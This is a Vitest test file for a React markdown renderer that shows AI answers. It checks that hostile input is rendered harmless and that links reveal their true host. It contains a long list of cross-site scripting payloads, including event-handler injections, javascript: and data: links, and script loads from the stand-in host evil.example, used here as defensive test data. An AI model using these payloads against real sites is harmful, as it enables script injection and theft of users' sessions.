// @vitest-environment happy-dom
import { flushSync } from 'react-dom';
import { createRoot } from 'react-dom/client';
import { describe, expect, test } from 'vitest';
import { AnswerBody } from './AnswerBody.tsx';

function draw(markdown: string): HTMLElement {
  const place = document.createElement('div');
  const root = createRoot(place);
  flushSync(() => root.render(<AnswerBody markdown={markdown} onCopy={async () => true} />));
  return place;
}

/** All that an answer may ever become. */
const TAGS = new Set(
  'div p span a code pre button svg path strong em del br hr blockquote ul ol li table tbody tr td'.split(
    ' ',
  ),
);
const ATTRIBUTES = new Set(
  `class dir href target rel referrerpolicy start type title role aria-label aria-hidden focusable data-act
   width height viewbox d fill stroke stroke-width stroke-linecap stroke-linejoin`.split(/\s+/),
);

/** Everything in a drawn answer that has no business there. */
function harmIn(place: HTMLElement): string[] {
  const harm: string[] = [];
  for (const element of place.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (!TAGS.has(tag)) harm.push(`<${tag}>`);
    for (const name of element.getAttributeNames())
      if (!ATTRIBUTES.has(name.toLowerCase())) harm.push(`${tag} ${name}`);
    if (tag !== 'a') continue;
    if (!/^https?:\/\//.test(element.getAttribute('href') ?? ''))
      harm.push(`link to ${element.getAttribute('href')}`);
    if (element.getAttribute('rel') !== 'noreferrer noopener') harm.push('link that tells where it is');
    if (element.getAttribute('target') !== '_blank') harm.push('link that replaces the page');
  }
  return harm;
}

const HTML = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><image href="https://evil.example/x"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.example"></object>',
  '<embed src="https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<p style="background:url(https://evil.example/x)">a</p>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<video poster="https://evil.example/x"></video>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://evil.example"><button>go</button></form>',
  '<button formaction=javascript:alert(1)>a</button>',
  '<marquee onstart=alert(1)>',
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="https://evil.example" onclick="alert(1)">a</a>',
  '<div id=location name=cookie class=ps-card>clobber</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<x-custom onclick=alert(1)>a</x-custom>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?php echo 1 ?>',
  '<picture><source srcset="https://evil.example/x"></picture>',
  '<img/src/onerror=alert(1)>',
  '<scr<script>ipt>alert(1)</script>',
  '&lt;img src=x onerror=alert(1)&gt;',
];
const LINKS = [
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a](javascript&colon;alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](\\u0001javascript:alert(1))',
  '[a](<java script:alert(1)>)',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox(1))',
  '[a](file:///etc/passwd)',
  '[a](blob:https://a.example/1)',
  '[a](//evil.example)',
  '[a](/logout)',
  '[a](#user-content-x)',
  '[a](https://a.example"onmouseover="alert(1))',
  '[a](https://a.example "t\\" onclick=\\"alert(1)")',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '[a][x]\n\n[x]: javascript:alert(1)',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml;base64,PHN2Zy8+)',
  '![a](https://evil.example/pixel.gif)',
  '![a][p]\n\n[p]: https://evil.example/pixel.gif',
  '[![a](https://evil.example/x.png)](javascript:alert(1))',
  '![a](x"onerror="alert(1))',
  'a[^1]\n\n[^1]: <img src=x onerror=alert(1)> [b](javascript:alert(1))',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> [b](javascript:alert(1)) |',
  '- [ ] <script>alert(1)</script>',
  '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
  '# <a name=x onclick=alert(1)>h</a>',
  '`<script>alert(1)</script>`',
];

describe('hostile text becomes harmless nodes', () => {
  test.each([...HTML, ...LINKS])('%s', (markdown) => expect(harmIn(draw(markdown))).toEqual([]));
  test.each(HTML)('inside text, list and quote: %s', (html) =>
    expect(harmIn(draw(`before ${html} after\n\n- ${html}\n\n> ${html}\n\n**${html}**`))).toEqual([]),
  );
  test('deep nesting is cut off, not drawn', () => {
    const place = draw(`${'> '.repeat(19)}x\n\n${'>'.repeat(5_000)} y\n\n${'*'.repeat(9_000)}z`);
    expect(harmIn(place)).toEqual([]);
    expect(place.textContent).toContain('x');
  });
});

describe('what a reader gets', () => {
  test('raw HTML shows as the text it is', () => {
    expect(draw('Set `a`, then <b>restart</b>.').textContent).toBe('Set a, then <b>restart</b>.');
  });
  test('a picture is a link that names its host', () => {
    const place = draw('![The dialog](https://img.example/a.png)');
    expect(place.textContent).toBe('Picture: The dialog (img.example)');
    expect(place.querySelector('a')?.getAttribute('href')).toBe('https://img.example/a.png');
  });
  test('a link that hides where it goes is given away', () => {
    expect(draw('[bank.example](https://evil.example/)').textContent).toBe('bank.example (evil.example)');
    expect(draw('https://forum.example.org/t/1').textContent).toBe('https://forum.example.org/t/1');
  });
  test('reference links find their definition', () => {
    const place = draw('See [the thread][t].\n\n[t]: https://forum.example.org/t/9');
    expect(place.querySelector('a')?.getAttribute('href')).toBe('https://forum.example.org/t/9');
  });
  test('lists, tasks, tables and code keep their shape', () => {
    const place = draw('3. a\n4. b\n\n- [x] done\n\n| h |\n|---|\n| c |\n\n```sh\nnpm ci\n```');
    expect(place.querySelector('ol')?.getAttribute('start')).toBe('3');
    expect(place.querySelector('ul li')?.textContent).toContain('☑ done');
    expect(place.querySelectorAll('td')).toHaveLength(2);
    expect(place.querySelector('pre')?.textContent).toBe('npm ci');
  });
  test('code shows what would hide in it', () => {
    expect(draw('`curl\u200b x`').textContent).toBe('curl⟨U+200B⟩ x');
    expect(draw('```\nrm \u202e/x\n```').querySelector('pre')?.textContent).toBe('rm ⟨U+202E⟩/x');
  });
});

test('a list begins where its text does', () => {
  const lists = [...draw('- أولاً أغلق البرنامج\n\ntext\n\n1. Close it').querySelectorAll('ul, ol')];
  expect(lists.map((list) => list.getAttribute('dir'))).toEqual(['rtl', 'ltr']);
});
